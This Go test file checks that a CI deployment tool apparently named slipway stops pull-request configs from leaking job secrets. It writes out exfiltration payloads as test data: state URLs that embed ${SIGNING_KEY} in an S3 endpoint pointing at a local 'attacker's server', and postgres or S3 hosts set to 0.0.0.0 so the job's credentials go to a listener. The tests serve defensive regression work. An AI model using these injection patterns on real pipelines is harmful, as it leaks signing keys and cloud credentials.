//go:build linux

package attack

import (
	"net"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// pullRequestJob are the variables of a job of GitHub's for a pull request.
var pullRequestJob = []string{
	"GITHUB_ACTIONS=true", "GITHUB_EVENT_NAME=pull_request", "GITHUB_BASE_REF=main", "GITHUB_REF_NAME=7/merge",
	"SIGNING_KEY=stolen-key", "AWS_ACCESS_KEY_ID=AKIDEXAMPLE", "AWS_SECRET_ACCESS_KEY=stolen-aws",
}

// TestFileVariables: variables in state and model.data were looked up where slipway.yaml
// is read, before any policy was. Commands that only look sent the value of any of them
// to an address that the pull request names, or printed it in an error.
func TestFileVariables(t *testing.T) {
	var mu sync.Mutex
	var got []string
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		got = append(got, r.URL.String())
		w.WriteHeader(http.StatusForbidden)
	}))
	t.Cleanup(server.Close)
	l := newLab(t)
	file := l.read(filepath.Join(l.repo, "slipway.yaml"))
	job := l.with(pullRequestJob...)
	sent := func() string {
		mu.Lock()
		defer mu.Unlock()
		return strings.Join(got, "\n")
	}
	for _, name := range []string{
		`state: "s3://records/${SIGNING_KEY}?region=r&use_path_style=true&endpoint=` + server.URL + `"`,
		`state: "${SIGNING_KEY}://records"`,
		`state: "/nowhere/${SIGNING_KEY:-x}/records"`,
	} {
		l.write("slipway.yaml", name+"\n"+file)
		for _, command := range []string{"status", "plan", "run"} {
			r := job.slipway(command, "--env", "prod").wantNoText("stolen")
			if strings.Contains(sent(), "stolen") {
				t.Fatalf("%s: the attacker's server got %q\n%s", name, sent(), r)
			}
			r.wantExit(1).wantText("a pull request may not use the variable SIGNING_KEY")
		}
	}
	l.write("slipway.yaml", strings.Replace(file, "data: [data.csv]", `data: ["${SIGNING_KEY}"]`, 1))
	job.slipway("plan", "--env", "prod").wantNoText("stolen").wantExit(1).wantText("may not use the variable SIGNING_KEY")
	l.slipway("plan", "--env", "prod", "--event", "pull_request").wantNoText("stolen")

	// A path that exists is no secret, and an operator can release others.
	l.write("slipway.yaml", strings.Replace(file, "data: [data.csv]", `data: ["${DATA:-data.csv}"]`, 1))
	job.with("DATA="+filepath.Join(l.repo, "data.csv")).slipway("plan", "--env", "prod").wantNoText("may not use")
	job.with("DATA=elsewhere.csv").slipway("plan", "--env", "prod").wantExit(1).wantText("may not use the variable DATA")
	job.with("DATA=elsewhere.csv", "SLIPWAY_POLICY="+l.policy("secrets: {pull_request: [DATA, E2E_TOKEN, E2E_SIDE]}\n")).
		slipway("plan", "--env", "prod").wantNoText("may not use")
}

// TestStateHost: a pull request chose the server that gets the credentials of the job for
// the shared state: PostgreSQL's password, or what is signed with those of a cloud.
func TestStateHost(t *testing.T) {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	connected := make(chan bool, 1)
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			conn.Close()
			select {
			case connected <- true:
			default:
			}
		}
	}()
	l := newLab(t)
	file := l.read(filepath.Join(l.repo, "slipway.yaml"))
	// A name that leads to the listener, and looks like another machine's.
	_, port, _ := net.SplitHostPort(listener.Addr().String())
	job := l.with(append(pullRequestJob, "PGPASSWORD=stolen-password", "PGSSLMODE=disable")...)
	for _, state := range []string{
		"postgres://slipway@0.0.0.0:" + port + "/records?scope=a",
		"s3://records/a?region=r&use_path_style=true&endpoint=http://0.0.0.0:" + port,
	} {
		l.write("slipway.yaml", `state: "`+state+"\"\n"+file)
		r := job.slipway("status")
		select {
		case <-connected:
			t.Fatalf("%s: the attacker's server was connected to\n%s", state, r)
		default:
		}
		r.wantExit(1).wantText("a pull request may not choose that the host 0.0.0.0 gets the job's credentials", "SLIPWAY_STATE")
	}
}
